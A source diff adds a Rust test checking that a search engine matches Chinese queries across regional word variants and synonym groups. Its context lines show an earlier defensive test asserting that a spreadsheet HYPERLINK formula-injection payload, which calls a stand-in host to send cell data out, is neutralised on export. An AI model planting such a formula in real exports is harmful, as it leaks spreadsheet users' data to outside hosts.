@@ -198,3 +198,34 @@ fn no_id_is_run_as_a_formula() {
     }
     assert!(table.contains("\"'=HYPERLINK(\"\"https://a.invalid/?\"\"&A1)\""), "{table}");
 }
+
+/// What Chinese calls differently in two places, also where it is only a part of what is asked; and where the editor gives
+/// a row of words another name, the words apart.
+#[test]
+fn chinese_is_found_by_its_other_words() {
+    let rows = [
+        ("a", "河谷的磨坊改用網路賣麵粉。"),
+        ("b", "河谷的网络贸易去年翻了一番。"),
+        ("c", "限制解除以後，船又來了。"),
+        ("d", "船東要求解除對渡船的限制。"),
+        ("e", "磨坊主讀報。"),
+    ];
+    let rows: String = rows
+        .iter()
+        .map(|(id, text)| format!("{{\"id\": \"{id}\", \"doc\": \"d\", \"text\": \"{text}\"}}\n"))
+        .collect();
+    let synonyms = "[[group]]\nwords = [\"解除限制\", \"限制解除\"]\n";
+    let folder = Folder::new("other-words", &[("rows.jsonl", &rows), ("synonyms.toml", synonyms)]);
+    let compiled = folder.compile();
+    let image = Image::open(&compiled.image).unwrap();
+    let corpus = image.corpus();
+    let rows = |query: &str| -> Vec<String> {
+        found(corpus, query).iter().map(|id| id.chars().next().unwrap().to_string()).collect()
+    };
+    assert_eq!(rows("网络"), ["a", "b"]);
+    assert_eq!(rows("網路貿易"), ["b"]);
+    assert_eq!(rows("解除限制"), ["c", "d"]);
+    let best = search(corpus, &Request { query: "解除限制".to_owned(), ..Request::default() });
+    assert!(corpus.text(best.hits[0].passage).contains("限制解除"), "what is said as a whole");
+    assert!(rows("\"网络貿易\"").len() == 1 && rows("\"網路貿易\"").is_empty(), "to the letter");
+}
